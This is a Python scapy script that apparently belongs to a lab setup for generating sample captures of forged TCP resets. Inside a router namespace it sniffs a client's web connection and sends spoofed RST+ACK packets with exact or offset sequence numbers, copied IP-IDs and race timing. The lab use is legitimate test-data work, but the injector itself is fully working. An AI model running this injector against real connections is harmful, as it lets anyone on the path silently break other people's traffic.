#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""On-path RST injector for the "forged/injected RST" sample captures.

Runs inside the router namespace of make-captures.sh (ip netns exec).  It
sniffs the client's segments to port 80 on the router's client-facing
interface, waits for a trigger segment, then sends forged RST+ACK segments
toward the server (claiming to come from the client), toward the client
(claiming to come from the server), or both, and exits.  Only the RSTs are
crafted; the connection they hit is ordinary kernel traffic.

The RSTs are sent at layer 3 through a raw IP socket (scapy send() with an
L3RawSocket), so the router namespace's kernel routes them out of the
right interface and resolves the next hop; scapy's own ARP is not used.

"Exact" sequence numbers, from the trigger segment T (payload length L):
  toward the server (from the client): seq = T.seq + L, ack = T.ack
  toward the client (from the server): seq = T.ack,     ack = T.seq + L
With --seq-offset O, --count N and --step D the k-th RST (k = 0..N-1)
toward each target has seq = exact + O + k*D.  With --trigger syn (the
client's SYN; only --toward client) the SYN counts one: ack = T.seq + 1,
and seq = 0 (a SYN carries no ACK), as a Linux stack's own RST+ACK to a
SYN for a closed port has them; the client's kernel in SYN_SENT checks
only the ack (it must be its ISN + 1), so connect() fails (ECONNREFUSED).

--flags sets the TCP flags of the forged segments (default RA); without A
the ack field is 0.  --ipid copy-trigger gives them the IP-ID of the
client segment that triggered them, as some real injectors do.  The forged
segments are sent as soon as the trigger is sniffed: a race against the
real answer is won only if the real path is slower (make-captures.sh delays
the router's forwarding for the inject-race-* scenarios).

    /usr/bin/python3 rst-injector.py --iface rtr-cli --ready FILE \\
        --trigger request --toward both [--ttl N] [--seq-offset N] \\
        [--count N] [--step N] [--ipid scapy|random|kernel|copy-trigger|N] \\
        [--flags RA]

One line per sent packet goes to stdout.  Exit status 0 if RSTs were sent,
1 if no trigger was seen before --timeout.
"""

import argparse
import os
import random
import sys
import time

from scapy.all import IP, TCP, conf, send, sniff
from scapy.supersocket import L3RawSocket

CLIENT = "192.0.2.2"
SERVER = "198.51.100.2"
PORT = 80


def log(msg):
    print("injector: %s" % msg, flush=True)


def payload_len(pkt):
    """TCP payload length from the IP header (no Ethernet padding)."""
    ip = pkt[IP]
    return ip.len - 4 * ip.ihl - 4 * pkt[TCP].dataofs


def tcp_flags(pkt):
    return str(pkt[TCP].flags)


def seg_len(pkt):
    """Payload length, plus one for a SYN (the --trigger syn case; a FIN
    is not counted, as before that trigger existed)."""
    return payload_len(pkt) + ("S" in tcp_flags(pkt))


def rel(value, base):
    """VALUE relative to the ISN BASE, or '?' if BASE is not known."""
    return "?" if base is None else "%d" % ((value - base) & 0xffffffff)


class Trigger:
    """Decides which sniffed client segment is the trigger."""

    def __init__(self, kind, on_hit):
        self.kind = kind
        self.on_hit = on_hit    # called with the trigger, before sniff ends
        self.saw_syn = False
        self.isn = None         # client ISN, for relative numbers in the log
        self.peer_isn = None    # server ISN (from the client's first ACK)
        self.packet = None

    def __call__(self, pkt):
        if IP not in pkt or TCP not in pkt:
            return False
        flags = tcp_flags(pkt)
        tcp = pkt[TCP]
        if "S" in flags:
            self.saw_syn = True
            self.isn = tcp.seq
            if self.kind == "syn" and "A" not in flags:
                self.packet = pkt
                self.on_hit(self)
                return True
            return False
        if "R" in flags or "A" not in flags:
            return False
        if self.peer_isn is None:
            self.peer_isn = (tcp.ack - 1) & 0xffffffff
        if self.isn is None:
            self.isn = (tcp.seq - 1) & 0xffffffff
        plen = payload_len(pkt)
        if self.kind == "handshake-ack":
            hit = self.saw_syn and flags == "A" and plen == 0
        else:                   # request
            hit = plen > 0
        if hit:
            self.packet = pkt
            self.on_hit(self)
        return hit


def pick_ipid(mode, trigger):
    """IP-ID field for one packet, or None to leave scapy's default (1)."""
    if mode == "scapy":
        return None
    if mode == "random":
        return random.randint(1, 0xffff)
    if mode == "kernel":
        return 0        # raw socket with IP_HDRINCL: the kernel fills it in
    if mode == "copy-trigger":
        # (an IP-ID of 0 would be filled in by the kernel, as for "kernel")
        return trigger[IP].id
    return int(mode)


def build(args, trig):
    """The forged RSTs, in sending order, with a description of each."""
    t = trig.packet
    ip, tcp = t[IP], t[TCP]
    plen = seg_len(t)           # payload, +1 for a SYN
    cport = tcp.sport
    # a SYN carries no ACK: its ack field (0 from Linux) is no sequence
    # number of the server's
    their_ack = tcp.ack if "A" in tcp_flags(t) else 0
    out = []
    for k in range(args.count):
        delta = args.seq_offset + k * args.step
        targets = []
        if args.toward in ("server", "both"):
            exact = (tcp.seq + plen) & 0xffffffff
            targets.append(("server", ip.src, ip.dst, cport, tcp.dport,
                            exact, tcp.ack, trig.isn, trig.peer_isn))
        if args.toward in ("client", "both"):
            exact = their_ack
            targets.append(("client", ip.dst, ip.src, tcp.dport, cport,
                            exact, (tcp.seq + plen) & 0xffffffff,
                            trig.peer_isn, trig.isn))
        for (who, src, dst, sport, dport, exact, ack, sisn, aisn) in targets:
            seq = (exact + delta) & 0xffffffff
            iph = IP(src=src, dst=dst)
            if args.ttl is not None:
                iph.ttl = args.ttl
            ipid = pick_ipid(args.ipid, t)
            if ipid is not None:
                iph.id = ipid
            if "A" not in args.flags:
                ack = 0
            pkt = iph / TCP(sport=sport, dport=dport, flags=args.flags,
                            seq=seq, ack=ack, window=0)
            desc = ("%s toward the %s: %s:%d -> %s:%d seq=%d "
                    "(relative %s, exact%+d) ack=%d (relative %s) ttl=%d "
                    "ipid=%s" % (
                        flag_names(args.flags), who, src, sport, dst, dport,
                        seq, rel(seq, sisn), delta, ack,
                        rel(ack, aisn) if "A" in args.flags else "-",
                        pkt[IP].ttl, "kernel" if ipid == 0 else pkt[IP].id))
            out.append((pkt, desc))
    return out


FLAG_NAMES = (("F", "FIN"), ("S", "SYN"), ("R", "RST"), ("P", "PSH"),
              ("A", "ACK"), ("U", "URG"), ("E", "ECE"), ("C", "CWR"))


def flag_names(letters):
    """'RPA' -> 'RST+PSH+ACK' (in header bit order)."""
    return "+".join(name for letter, name in FLAG_NAMES if letter in letters)


def parse_args(argv):
    p = argparse.ArgumentParser(
        description="Sniff a client's connection to port 80 and inject "
                    "forged RSTs (run inside the router namespace).")
    p.add_argument("--iface", required=True,
                   help="interface to sniff the client's segments on "
                        "(the router's client-facing one)")
    p.add_argument("--ready", required=True, metavar="FILE",
                   help="file created once sniffing has started")
    p.add_argument("--trigger", choices=("handshake-ack", "request", "syn"),
                   default="request",
                   help="handshake-ack: the client's first pure ACK after "
                        "its SYN; request: its first segment with payload; "
                        "syn: its SYN (only with --toward client)")
    p.add_argument("--toward", choices=("server", "client", "both"),
                   default="server")
    p.add_argument("--ttl", type=int, default=None,
                   help="TTL of the injected packets (default: scapy's 64, "
                        "what the router itself uses)")
    p.add_argument("--seq-offset", type=int, default=0,
                   help="added to the exact sequence number (default 0)")
    p.add_argument("--count", type=int, default=1,
                   help="RSTs per target (default 1)")
    p.add_argument("--step", type=int, default=5000,
                   help="sequence step between the RSTs of a burst")
    p.add_argument("--ipid", default="scapy",
                   help="scapy (its default, 1), random, kernel (0: the "
                        "router's kernel picks one), copy-trigger (the "
                        "IP-ID of the trigger segment) or a number")
    p.add_argument("--flags", default="RA",
                   help="TCP flags of the forged segments, scapy letters "
                        "F S R P A U E C; must include R (default RA)")
    p.add_argument("--client", default=CLIENT)
    p.add_argument("--server", default=SERVER)
    p.add_argument("--port", type=int, default=PORT)
    p.add_argument("--timeout", type=float, default=10.0,
                   help="give up after this many seconds (default 10)")
    p.add_argument("--max-packets", type=int, default=50,
                   help="give up after sniffing this many segments")
    args = p.parse_args(argv)
    if args.ipid not in ("scapy", "random", "kernel", "copy-trigger"):
        try:
            if not 0 <= int(args.ipid) <= 0xffff:
                raise ValueError
        except ValueError:
            p.error("--ipid: scapy, random, kernel, copy-trigger or "
                    "0..65535")
    if ("R" not in args.flags or not args.flags.isalpha() or
            set(args.flags) - set("FSRPAUEC")):
        p.error("--flags: letters from F S R P A U E C, including R")
    if args.trigger == "syn" and args.toward != "client":
        p.error("--trigger syn only with --toward client (the server has "
                "not seen the SYN yet)")
    if args.count < 1 or not (args.ttl is None or 1 <= args.ttl <= 255):
        p.error("--count must be >= 1, --ttl 1..255")
    return args


def main(argv):
    args = parse_args(argv)
    conf.verb = 0
    sent = []
    # Open the sending socket and load scapy's view of the routes before
    # sniffing, so that little is left to do between trigger and RST.
    sock = L3RawSocket(iface=args.iface)   # (its receive side is unused)
    conf.route.route(args.server)

    def inject(trig):
        # Send from inside the sniff callback: closing the sniffing socket
        # (when sniff() returns) takes 10-20 ms.
        for pkt, desc in build(args, trig):
            sent.append((time.time(), desc))
            send(pkt, socket=sock)

    trig = Trigger(args.trigger, inject)
    bpf = ("tcp and src host %s and dst host %s and dst port %d"
           % (args.client, args.server, args.port))

    def started():
        with open(args.ready, "w") as f:
            f.write("%d\n" % os.getpid())
        log("sniffing on %s (%s), trigger %s" % (args.iface, bpf,
                                                  args.trigger))

    try:
        sniff(iface=args.iface, filter=bpf, store=False, stop_filter=trig,
              timeout=args.timeout, count=args.max_packets,
              started_callback=started)
    finally:
        sock.close()
    if trig.packet is None:
        log("no trigger segment within %.0f s / %d packets; nothing sent"
            % (args.timeout, args.max_packets))
        return 1
    t = trig.packet
    log("trigger: %s:%d -> %s:%d flags %s seq=%d ack=%d len=%d "
        "(relative seq %s ack %s) ipid=%d ttl=%d" % (
            t[IP].src, t[TCP].sport, t[IP].dst, t[TCP].dport, tcp_flags(t),
            t[TCP].seq, t[TCP].ack, payload_len(t),
            rel(t[TCP].seq, trig.isn), rel(t[TCP].ack, trig.peer_isn),
            t[IP].id, t[IP].ttl))
    for t_sent, desc in sent:
        log("sent %s; send() called %.1f ms after the trigger's "
            "receive time stamp" % (desc, 1000 * (t_sent - float(t.time))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
